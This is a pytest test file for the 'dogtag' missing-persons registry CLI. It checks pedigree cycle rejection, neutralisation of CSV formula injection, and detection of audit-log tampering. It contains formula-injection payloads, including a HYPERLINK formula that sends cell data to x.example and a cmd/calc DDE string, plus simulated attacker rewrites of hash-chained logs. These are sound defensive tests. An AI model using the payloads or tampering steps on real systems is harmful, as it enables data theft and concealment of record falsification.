"""Integrity of the registry: what bad input cannot do, what rewriting history cannot hide."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, select, text
from sqlalchemy.exc import DBAPIError

from dogtag.cli import cli

from .factories import drop_append_only_triggers, small_registry, snapshot


def _invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def test_pedigree_cycle_import_is_refused(engine: Engine, db_url: str, tmp_path: Path) -> None:
    f = tmp_path / "p.csv"
    f.write_text("family,id,father,mother,sex,missing\nF1,R1,,,female,false\nF1,M1,M2,R1,male,true\n"
                 "F1,M2,M1,R1,male,false\nF2,X,,,female,false\nF2,S,S,X,male,false\n")
    before = snapshot(engine)
    _invoke("import", "pedigrees", str(f), "--database", db_url)  # warm up: the modules load once
    t0 = time.process_time()  # CPU time: the machine is shared, wall time measures the others
    res = _invoke("import", "pedigrees", str(f), "--database", db_url)
    assert time.process_time() - t0 < 1.0
    assert res.exit_code == 2, res.output
    assert "line 3, column family: family 'F1': pedigree has a cycle" in res.output
    assert "M1 -> M2 -> M1" in res.output
    assert "line 6, column family: family 'F2': members who are their own parent: S" in res.output
    assert snapshot(engine) == before


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+cmd",
            "\tTAB", "\rCR"]


def test_csv_exports_neutralise_formula_cells(engine: Engine, db_url: str, tmp_path: Path) -> None:
    import csv
    import io

    f = tmp_path / "m.csv"
    with open(f, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["SERVICE_NUMBER", "LAST_NAME", "BRANCH", "HOME_STATE", "CONFLICT", "BIRTH_YEAR"])
        w.writerow(["RA1", FORMULAS[0], FORMULAS[2], FORMULAS[3], FORMULAS[1], "1930"])
        w.writerow(["RA2", FORMULAS[4], "-5", "ARMY", "Korean War", "1931"])
    res = _invoke("import", "missing", str(f), "--database", db_url)
    assert res.exit_code == 0, res.output
    out = tmp_path / "export.csv"
    assert _invoke("export", "missing_person", "-o", str(out), "--database", db_url).exit_code == 0
    rows = {r["service_number"]: r for r in csv.DictReader(out.read_text("utf-8").splitlines())}
    assert rows["RA1"]["last_name"] == "'" + FORMULAS[0]
    assert rows["RA1"]["branch"] == "'" + FORMULAS[2]
    assert rows["RA1"]["home_state"] == "'" + FORMULAS[3]
    assert rows["RA2"]["branch"] == "-5"  # a plain number runs nothing and stays as it is
    assert rows["RA1"]["birth_year"] == "1930"
    stats_csv = tmp_path / "stats.csv"
    assert _invoke("stats", "--csv", str(stats_csv), "--database", db_url).exit_code == 0
    cells = [c for r in csv.reader(stats_csv.read_text("utf-8").splitlines()) for c in r]
    assert "'" + FORMULAS[1] in cells and "'" + FORMULAS[2] in cells and "'" + FORMULAS[3] in cells
    for path in (out, stats_csv):
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row
            assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in row), row


# --- tamper evidence -------------------------------------------------------------


def _history(engine: Engine, db_url: str) -> None:
    """A small registry with custody transfers recorded from the CLI and a reviewed identification."""
    from dogtag.registry import workflow as wf
    from dogtag.registry.engine import session_scope
    from dogtag.registry.models import MissingPerson, Sample, Status, User

    ids = small_registry(engine)
    for args in (["accession", "K55-01", "--to", "DPAA lab Hawaii", "--place", "Osan AB", "--purpose", "turnover",
                  "--at", "2018-08-01T09:00+09:00"],
                 ["sample", "S1", "--to", "AFMES-AFDIL", "--place", "Dover", "--purpose", "DNA testing"],
                 ["sample", "S1", "--to", "DPAA lab Hawaii", "--purpose", "return after testing", "--as", "ann"]):
        res = _invoke("custody", "transfer", *args, "--database", db_url)
        assert res.exit_code == 0, res.output
    with session_scope(engine, "ada") as s:
        def user(name: str) -> User:
            return s.scalars(select(User).where(User.username == name)).one()

        wf.change_status(s, s.get(MissingPerson, ids["p2"]), Status.MISSING_IN_ACTION, user("ann"), "unit records")
        i = wf.propose(s, user("ann"), s.get(MissingPerson, ids["p1"]), sample=s.get(Sample, ids["s1"]),
                       reason="LR 1e9")
        s.flush()
        wf.submit(s, i, user("ann"), "ready")


def _verify(db_url: str, *extra: str) -> tuple[int, dict]:
    res = _invoke("verify", "--json", "--database", db_url, *extra)
    return res.exit_code, json.loads(res.output)


def _sql(engine: Engine, *statements: str) -> None:
    with engine.begin() as conn:
        for stmt in statements:
            conn.execute(text(stmt))


def _rechain(engine: Engine, chain: str, start: int, edit: dict | None = None) -> None:
    """The attacker's rewrite: edit entry ``start`` (if ``edit``), recompute every hash from there on
    and move the head, all without the ledger key (the old MACs stay, or are copied around)."""
    from dogtag.registry import ledger

    table = ledger._TABLES[chain]
    with engine.begin() as conn:
        prev = conn.scalar(select(table.c.hash).where(table.c.seq == start - 1)) or ledger.GENESIS
        rows = [dict(r._mapping) for r in conn.execute(select(table).where(table.c.seq >= start)
                                                       .order_by(table.c.seq))]
        for r in rows:
            if edit and r["seq"] == start:
                r.update(edit)
            r["prev_hash"] = prev
            r["hash"] = prev = ledger.entry_hash(r, prev)
            conn.execute(table.update().where(table.c.seq == r["seq"]).values(
                {k: v for k, v in r.items() if k != "seq"}))
        conn.execute(text("update chain_head set hash = :h where name = :n"), {"h": prev, "n": chain})


@pytest.mark.usefixtures("users")
def test_edit_and_rechain_is_refused_then_detected(engine: Engine, db_url: str) -> None:
    _history(engine, db_url)
    code, out = _verify(db_url)
    assert code == 0, out
    assert out["chains"][1]["entries"] == 3 and out["statuses"]["ok"]
    with pytest.raises(DBAPIError, match="append-only"):
        _rechain(engine, "custody", 2, {"to_party": "Someone else"})
    assert _verify(db_url)[0] == 0
    drop_append_only_triggers(engine)
    _rechain(engine, "custody", 2, {"to_party": "Someone else"})
    code, out = _verify(db_url)
    assert code == 1
    assert out["chains"][1]["first_bad"] == 2 and "MAC" in out["chains"][1]["reason"]


@pytest.mark.usefixtures("users")
def test_delete_last_and_move_head_is_refused_then_detected(engine: Engine, db_url: str, tmp_path: Path) -> None:
    _history(engine, db_url)
    anchors = tmp_path / "checkpoints.jsonl"
    assert _invoke("anchor", "-o", str(anchors), "--database", db_url).exit_code == 0
    with engine.connect() as conn:
        n, m = conn.execute(text("select seq, mac from audit_log order by seq desc")).first()
        prev_hash, prev_mac = conn.execute(text("select hash, mac from audit_log where seq = :s"), {"s": n - 1}).one()
    with pytest.raises(DBAPIError, match="append-only"):
        _sql(engine, f"delete from audit_log where seq = {n}")
    with pytest.raises(DBAPIError, match="forward"):
        _sql(engine, f"update chain_head set seq = {n - 1}, hash = '{prev_hash}' where name = 'audit'")
    assert _verify(db_url, "--anchor", str(anchors))[0] == 0
    drop_append_only_triggers(engine)
    # without the key the attacker can only copy a MAC that exists: the deleted entry's, or the
    # previous entry's; a head's MAC is made apart from an entry's, so neither fits
    _sql(engine, f"delete from audit_log where seq = {n}")
    for mac in (prev_mac, m):
        _sql(engine, f"update chain_head set seq = {n - 1}, hash = '{prev_hash}', mac = '{mac}' where name = 'audit'")
        code, out = _verify(db_url)
        assert code == 1 and out["chains"][0]["entries"] == n - 1
        assert "head's MAC" in out["chains"][0]["reason"]
    code, out = _verify(db_url, "--anchor", str(anchors))
    assert code == 1 and f"records entry {n}, which the registry no longer has" in \
        out["anchors"][0]["problems"][0]["reason"]


@pytest.mark.usefixtures("users")
def test_empty_log_and_reset_head_is_refused_then_detected(engine: Engine, db_url: str, tmp_path: Path) -> None:
    with engine.connect() as conn:  # the head of the new registry, as someone may have copied it
        genesis_mac = conn.scalar(text("select mac from chain_head where name = 'custody'"))
    _history(engine, db_url)
    anchors = tmp_path / "checkpoints.jsonl"
    assert _invoke("anchor", "-o", str(anchors), "--database", db_url).exit_code == 0
    with pytest.raises(DBAPIError, match="append-only"):
        _sql(engine, "delete from custody_log")
    with pytest.raises(DBAPIError):
        _sql(engine, "delete from chain_head where name = 'custody'")
    assert _verify(db_url)[0] == 0
    drop_append_only_triggers(engine)
    _sql(engine, "delete from custody_log",
         f"update chain_head set seq = 0, hash = '{'0' * 64}' where name = 'custody'")
    code, out = _verify(db_url)
    assert code == 1 and out["chains"][1]["entries"] == 0 and "head's MAC" in out["chains"][1]["reason"]
    _sql(engine, "delete from chain_head where name = 'custody'")
    code, out = _verify(db_url)
    assert code == 1 and "head is missing" in out["chains"][1]["reason"]
    # the strongest rewrite: the head row put back exactly as it was when the registry was new
    # (seq 0 and its genuine MAC, saved by whoever reset it): only a checkpoint kept elsewhere tells
    _sql(engine, f"insert into chain_head (name, seq, hash, mac) values ('custody', 0, '{'0' * 64}', "
                 f"'{genesis_mac}')")
    assert _verify(db_url)[1]["chains"][1]["ok"]
    code, out = _verify(db_url, "--anchor", str(anchors))
    assert code == 1
    (problem,) = out["anchors"][0]["problems"]
    assert problem["chain"] == "custody" and "cut back" in problem["reason"]


@pytest.mark.usefixtures("users")
def test_replayed_genuine_head_is_caught_only_by_an_anchor(engine: Engine, db_url: str, tmp_path: Path) -> None:
    """The threat model's limit: the newest audit entries deleted and the head row put back as it was
    (seq, hash and genuine MAC copied before those entries were written) is a genuine older history,
    which no key can tell from the present; a checkpoint made after those entries does."""
    from dogtag.registry.engine import session_scope
    from dogtag.registry.models import MissingPerson

    _history(engine, db_url)
    with engine.connect() as conn:
        old = conn.execute(text("select seq, hash, mac from chain_head where name = 'audit'")).one()
    with session_scope(engine, "ada") as s:  # newer history: an audited edit
        s.scalars(select(MissingPerson).where(MissingPerson.service_number == "RA1")).one().first_name = "JOHN"
    anchors = tmp_path / "checkpoints.jsonl"
    assert _invoke("anchor", "-o", str(anchors), "--database", db_url).exit_code == 0
    with engine.connect() as conn:
        n = conn.scalar(text("select seq from chain_head where name = 'audit'"))
    assert n > old.seq > 0
    drop_append_only_triggers(engine)
    _sql(engine, f"delete from audit_log where seq > {old.seq}",
         f"update chain_head set seq = {old.seq}, hash = '{old.hash}', mac = '{old.mac}' where name = 'audit'")
    code, out = _verify(db_url)
    assert out["chains"][0] == {"chain": "audit", "ok": True, "entries": old.seq, "first_bad": None, "reason": ""}
    code, out = _verify(db_url, "--anchor", str(anchors))
    assert code == 1
    (problem,) = out["anchors"][0]["problems"]
    assert problem["chain"] == "audit" and f"records entry {n}, which the registry no longer has" in problem["reason"]


def test_serve_refuses_a_missing_or_wrong_ledger_key(engine: Engine, db_url: str, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """`dogtag serve` checks the key against the chain heads before it starts the server."""
    import uvicorn

    small_registry(engine)
    started: list[dict] = []
    monkeypatch.setattr(uvicorn, "run", lambda *a, **kw: started.append(kw))
    res = _invoke("serve", "--database", db_url, "--port", "8999")
    assert res.exit_code == 0 and len(started) == 1, res.output
    monkeypatch.setenv("DOGTAG_LEDGER_KEY_FILE", str(tmp_path / "absent.key"))
    res = _invoke("serve", "--database", db_url)
    assert res.exit_code != 0 and "no ledger key at" in str(res.exception)
    other = tmp_path / "other.key"
    other.write_text("ab" * 32)
    monkeypatch.setenv("DOGTAG_LEDGER_KEY_FILE", str(other))
    res = _invoke("serve", "--database", db_url)
    assert res.exit_code != 0 and "does not authenticate this registry's audit and custody chain head" in \
        str(res.exception)
    assert len(started) == 1  # neither refusal started a server


@pytest.mark.usefixtures("users")
def test_direct_status_edits_are_detected(engine: Engine, db_url: str) -> None:
    _history(engine, db_url)
    assert _verify(db_url)[0] == 0
    _sql(engine, "update missing_person set status = 'identified' where service_number = 'RA2'")
    code, out = _verify(db_url)
    assert code == 1 and out["chains"][0]["ok"]  # the logs themselves are intact
    assert any("missing person RA2 has status identified, but the audit log records missing_in_action" in p
               for p in out["statuses"]["problems"])
    _sql(engine, "update missing_person set status = 'missing_in_action' where service_number = 'RA2'",
         "update identification set status = 'approved'")
    code, out = _verify(db_url)
    assert code == 1 and out["statuses"]["total_problems"] == 2  # audit log and event history disagree
    assert all(p.startswith("identification ") for p in out["statuses"]["problems"])
    res = _invoke("verify", "--database", db_url)
    assert res.exit_code == 1 and "DO NOT agree with their history" in res.output


def test_forged_checkpoint_and_wrong_key_are_refused(engine: Engine, db_url: str, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    small_registry(engine)
    anchors = tmp_path / "checkpoints.jsonl"
    assert _invoke("anchor", "-o", str(anchors), "--database", db_url).exit_code == 0
    cp = json.loads(anchors.read_text())
    cp["chains"]["audit"]["seq"] = 1
    forged = tmp_path / "forged.jsonl"
    forged.write_text(json.dumps(cp) + "\n")
    code, out = _verify(db_url, "--anchor", str(forged))
    assert code == 1 and "checkpoint's MAC does not match" in out["anchors"][0]["problems"][0]["reason"]
    other = tmp_path / "other.key"
    other.write_text("ab" * 32)
    monkeypatch.setenv("DOGTAG_LEDGER_KEY_FILE", str(other))
    code, out = _verify(db_url)
    assert code == 1 and out["chains"][0]["first_bad"] == 1 and "not the registry's key" in out["chains"][0]["reason"]
    monkeypatch.setenv("DOGTAG_LEDGER_KEY_FILE", str(tmp_path / "absent.key"))
    res = _invoke("verify", "--database", db_url)
    assert res.exit_code != 0 and "no ledger key at" in str(res.exception)


def test_custody_from_the_cli(engine: Engine, db_url: str) -> None:
    small_registry(engine)
    res = _invoke("custody", "transfer", "sample", "S1", "--to", "AFDIL", "--purpose", "DNA testing",
                  "--at", "2018-08-01T09:00", "--database", db_url)
    assert res.exit_code == 0 and "(first entry) -> AFDIL recorded as custody entry 1" in res.output
    res = _invoke("custody", "transfer", "sample", "S1", "--from", "Someone", "--to", "X", "--purpose", "p",
                  "--database", db_url)
    assert res.exit_code != 0 and "held by 'AFDIL', not 'Someone'" in str(res.exception)
    res = _invoke("custody", "transfer", "sample", "NOPE", "--to", "X", "--purpose", "p", "--database", db_url)
    assert res.exit_code != 0 and "no sample 'NOPE'" in str(res.exception)
    res = _invoke("custody", "history", "sample", "S1", "--json", "--database", db_url)
    (entry,) = json.loads(res.output)
    assert (entry["from"], entry["to"], entry["at"]) == (None, "AFDIL", "2018-08-01T09:00:00+00:00")
